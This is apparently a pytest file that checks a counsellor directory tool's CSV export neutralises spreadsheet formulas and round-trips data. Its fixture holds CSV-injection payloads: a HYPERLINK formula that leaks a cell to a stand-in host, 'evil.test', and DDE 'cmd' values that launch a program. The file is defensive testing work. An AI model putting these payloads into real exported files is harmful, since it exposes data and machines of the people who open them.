"""`fristad directory import` and `export` through the real command line and a real Redis:
a file a centre opens in a spreadsheet runs no formula, and export -> import round-trips."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from counsellor_console.domain.directory import COLUMNS
from tests.support.server import run_cli

HOSTILE = {
    "id": "jouren",
    "name": '=HYPERLINK("https://evil.test/?d="&A1,"Klicka")',
    "helps_with": "@SUM(1+1)*cmd|' /C calc'!A0",
    "topics": "violence",
    "kommuner": "0180",
    "languages": "sv",
    "phone": "+46 8 123 45",
    "address": "-2+3+cmd|' /C calc'!A0",
    "hours": "mån-fre 09-17",
    "source": "Socialtjänsten, telefon 2026-11-01",
}


def write_csv(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerows(rows)


def export(redis_url: str) -> list[dict[str, str]]:
    done = run_cli(redis_url, "directory", "export")
    assert done.returncode == 0, done.stderr
    return list(csv.DictReader(io.StringIO(done.stdout)))


def test_export_runs_no_formula_and_round_trips(redis_url: str, tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    write_csv(source, [HOSTILE])
    done = run_cli(redis_url, "directory", "import", str(source))
    assert done.returncode == 0, done.stderr
    assert "imported: 1, rejected: 0" in done.stdout

    (row,) = export(redis_url)
    for name in ("name", "helps_with", "address"):
        assert row[name] == "'" + HOSTILE[name], name  # shown as text, never run
    assert row["phone"] == "+46 8 123 45"  # still a number a counsellor can call
    for cell in row.values():
        assert not cell.startswith(("=", "@")), cell
        assert not cell.startswith(("+", "-")) or cell == "+46 8 123 45", cell

    # The exported file imports back to exactly what was imported.
    again = tmp_path / "again.csv"
    again.write_text(run_cli(redis_url, "directory", "export").stdout, encoding="utf-8")
    done = run_cli(redis_url, "directory", "import", str(again))
    assert done.returncode == 0, done.stderr
    assert export(redis_url) == [row]
    assert row["hours"] == HOSTILE["hours"]
    assert row["source"] == HOSTILE["source"]
